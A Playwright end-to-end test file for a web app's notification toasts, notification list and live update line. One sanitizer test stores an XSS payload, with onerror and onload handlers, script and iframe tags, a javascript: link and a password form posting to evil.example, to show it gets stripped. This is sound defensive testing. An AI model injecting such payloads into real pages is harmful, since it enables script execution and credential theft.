import type { Page } from '@playwright/test'
import { atBothSizes, axe, BOTH_SIZES, SIZES } from '../support/browser.ts'
import { status } from '../support/console-noise.ts'
import { liveLine } from '../support/live-line.ts'
import { arriveAt } from '../support/members.ts'
import { freezeClock } from '../support/page-clock.ts'
import { callAs, signInAs } from '../support/sign-in.ts'
import { expect, test } from '../support/test.ts'
import type { World } from '../support/world.ts'

/** Stores a notification as it is, past the server's cleaning: what an older version may have left. */
const store = (world: World, memberId: number, cause: string, title: string, message: string) =>
  world.db.pool.query(
    'insert into notification (member_id, cause, title, message, created_at) values ($1, $2, $3, $4, $5)',
    [memberId, cause, title, message, world.clock.now()],
  )
const invite = (world: World, memberId: number) =>
  world.db.pool.query(
    `insert into review_invitation (member_id, review_step_id, level, occasion, invited_at)
      values ($1, 6, 1, 'module-12', now())`,
    [memberId],
  )
const messages = (page: Page) => page.getByRole('region', { name: 'Messages' })
const toast = (page: Page, title: string) => messages(page).getByRole('status').filter({ hasText: title })

/** A member on the dashboard with some notifications. */
const arriveWith = async (world: World, page: Page, count: number) => {
  const { member } = await arriveAt(page, world, 4)
  for (let n = 1; n <= count; n += 1)
    await store(world, member.id, `${n}`, `News ${n}`, `<p>About <b>it ${n}</b></p>`)
  return member
}

test.describe('what happened while the member was away', () => {
  test('is shown with title and HTML message until it is closed [NOTIF-03, NOTIF-04, NOTIF-05]', async ({
    visit,
    world,
  }) => {
    const page = await visit({ size: 'mobile' })
    await arriveWith(world, page, 3)
    await page.goto('/dashboard')
    await toast(page, 'News 1').waitFor()
    await expect.poll(() => toast(page, 'News 1').locator('b').innerText()).toBe('it 1')
    await expect.poll(() => messages(page).getByRole('status').count()).toBe(3)
    expect(await atBothSizes(page, axe)).toEqual([])
    // The header stays free: nothing that waits to be closed may lie on it.
    await page.getByRole('button', { name: /My account/ }).click({ trial: true })
    await page.getByRole('button', { name: 'Close: News 1' }).press('Enter')
    await expect.poll(() => toast(page, 'News 1').count()).toBe(0)
    // The list still has them, and opening it closes what says the same.
    await page.getByRole('button', { name: 'Notifications, 3 new' }).click()
    await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
    const list = page.getByRole('dialog', { name: 'Notifications' })
    await list.getByText('News 3').waitFor()
    await expect.poll(() => list.getByRole('listitem').first().innerText()).toContain('News 3')
    // All of it is on the screen.
    for (const size of BOTH_SIZES) {
      await page.setViewportSize(SIZES[size])
      const isInside = async () => {
        const box = await list.boundingBox()
        return box !== null && box.x >= 16 && box.x + box.width <= SIZES[size].width
      }
      await expect.poll(isInside, size).toBe(true)
    }
    expect(await atBothSizes(page, axe)).toEqual([])
    await page.keyboard.press('Escape')
    const bell = page.getByRole('button', { name: 'Notifications', exact: true })
    await expect.poll(() => bell.evaluate((element) => element === document.activeElement)).toBe(true)
  })

  for (const size of BOTH_SIZES)
    test(`is one line when it is more than the page has room for, and the line opens the list, on ${size} [NOTIF-05]`, async ({
      visit,
      world,
    }) => {
      const page = await visit({ size })
      await arriveWith(world, page, 9)
      await page.goto('/dashboard')
      await toast(page, '9 new notifications').waitFor()
      expect(await messages(page).getByRole('status').count()).toBe(1)
      expect(await axe(page)).toEqual([])
      await page.getByRole('button', { name: 'SHOW ALL' }).press('Enter')
      const list = page.getByRole('dialog', { name: 'Notifications' })
      await expect.poll(() => list.getByRole('listitem').count()).toBe(9)
      await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
    })

  test('is delivered once; what was read here is not new on another device, what comes after it is [NOTIF-03, NOTIF-05]', async ({
    visit,
    world,
  }) => {
    const page = await visit()
    const member = await arriveWith(world, page, 5)
    await page.goto('/dashboard')
    await toast(page, '5 new notifications').waitFor()
    await page.reload()
    await page.getByRole('button', { name: 'Notifications, 5 new' }).click()
    await page.getByRole('dialog', { name: 'Notifications' }).getByText('News 5').waitFor()
    await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: 'Notifications', exact: true }).waitFor()
    await store(world, member.id, '6', 'News 6', '<p>About it</p>')
    const elsewhere = await visit()
    await signInAs(elsewhere, member.id)
    await elsewhere.goto('/dashboard')
    await elsewhere.getByRole('button', { name: 'Notifications, 1 new' }).waitFor()
  })

  test('waits while a window is open, whose buttons it would lie on [NOTIF-05]', async ({ visit, world }) => {
    const page = await visit({ size: 'mobile' })
    const { member } = await arriveAt(page, world, 4)
    await store(world, member.id, '1', 'News 1', '<p>About it</p>')
    await page.goto('/dashboard')
    await toast(page, 'News 1').waitFor()
    await page.getByRole('button', { name: 'Time zone', exact: true }).click()
    await page.getByRole('dialog', { name: 'SELECT YOUR TIME ZONE' }).waitFor()
    await expect.poll(() => page.getByText('News 1').count()).toBe(0)
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await toast(page, 'News 1').waitFor()
  })

  for (const cleaner of ['browser', 'library'])
    test(`cannot harm: what slipped into the database is cleaned once more, by the ${cleaner} [NOTIF-04, NOTIF-05]`, async ({
      visit,
      world,
    }) => {
      // The browser mentions handlers that it meets while the library cleans the text, apart from the page, and that
      // the picture that is left of the attack is none.
      const page = await visit({ expected: [/Executing inline event handler violates/, /\/x\)?$/] })
      if (cleaner === 'library')
        await page.addInitScript(() => Reflect.deleteProperty(Element.prototype, 'setHTML'))
      const { member } = await arriveAt(page, world, 4)
      const attack =
        '<p id="main" style="position:fixed;inset:0">Hello</p><img src=x onerror="window.hit=1"><script>window.hit=1</script>' +
        '<svg onload="window.hit=1"></svg><a href="javascript:window.hit=1">here</a><iframe srcdoc="<script>parent.hit=1</script>"></iframe>' +
        '<form action="https://evil.example"><input name="password"></form>'
      await store(world, member.id, 'attack', 'Careful <b>now</b>', attack)
      await page.goto('/dashboard')
      const card = toast(page, 'Careful <b>now</b>')
      await card.waitFor()
      await card.getByText('here').click()
      expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined()
      expect(
        await card.locator('script, iframe, form, input, [style], [onerror], [onload], [id]').count(),
      ).toBe(0)
      expect(await card.getByText('here').getAttribute('href')).toBeNull()
    })
})

test.describe('the live line', () => {
  test('brings the level review’s notification a second after the hint, and its link leads to the welcome page [NOTIF-01, NOTIF-02, NOTIF-05]', async ({
    visit,
    world,
  }) => {
    const page = await visit()
    const { member, session } = await arriveAt(page, world, 4)
    await invite(world, member.id)
    const joined = liveLine(page)
    const look = /\/Notification\/GetNotification/
    const looked = page.waitForResponse(look)
    let looks = 0
    page.on('request', (request) => {
      if (look.test(request.url())) looks += 1
    })
    await page.clock.install()
    await page.goto('/membership')
    const socket = await joined
    // What is there before the first look is answered comes with it.
    await looked
    await freezeClock(page)
    const hint = socket.waitForEvent('framereceived', ({ payload }) =>
      String(payload).includes('GetNotifications'),
    )
    await callAs(session, 'PUT', '/Customer/SetYearInReviewStep')
    await hint
    let passed = 0
    for (; looks < 2 && passed < 10_000; passed += 100) await page.clock.runFor(100)
    expect(looks).toBe(2)
    expect(passed).toBeGreaterThanOrEqual(1_000)
    await page.clock.resume()
    await toast(page, 'Your level review has begun').waitFor()
    await toast(page, 'Your level review has begun').getByRole('link').click()
    await page.waitForURL('**/Level2Welcome')
    await expect.poll(() => messages(page).getByRole('status').count()).toBe(0)
  })

  test('keeps what is shown when the next look fails [NOTIF-05]', async ({ visit, world }) => {
    const page = await visit({ expected: status(500) })
    const { member, session } = await arriveAt(page, world, 4)
    await invite(world, member.id)
    await store(world, member.id, 'first', 'First news', '<p>Still here</p>')
    const joined = liveLine(page)
    await page.goto('/membership')
    await joined
    await toast(page, 'First news').waitFor()
    await page.route('**/api/Notification/GetNotification', (route) =>
      route.fulfill({ status: 500, json: { code: 'internal', title: 'Error', message: 'x' } }),
    )
    const asked = page.waitForResponse('**/api/Notification/GetNotification')
    await callAs(session, 'PUT', '/Customer/SetYearInReviewStep')
    await asked
    await expect.poll(() => toast(page, 'First news').innerText()).toContain('Still here')
  })
})
